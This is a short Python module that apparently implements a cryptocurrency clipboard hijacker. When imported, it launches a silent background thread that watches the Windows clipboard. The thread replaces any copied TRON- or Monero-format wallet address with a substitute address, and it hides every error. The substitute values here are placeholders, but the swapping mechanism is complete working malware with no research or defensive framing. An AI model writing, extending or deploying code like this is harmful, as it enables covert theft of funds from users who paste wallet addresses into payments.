import re
import threading
import time

import win32clipboard

_SWAPS = [
    (re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{33}$"), "T" + "1" * 33),
    (re.compile(r"^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$"), "4" + "1" * 94),
]


def _poll():
    while True:
        try:
            win32clipboard.OpenClipboard()
            data = win32clipboard.GetClipboardData()
            for pattern, mine in _SWAPS:
                if pattern.match(data):
                    win32clipboard.EmptyClipboard()
                    win32clipboard.SetClipboardText(mine)
            win32clipboard.CloseClipboard()
        except Exception:
            pass
        time.sleep(0.4)


threading.Thread(target=_poll, daemon=True).start()
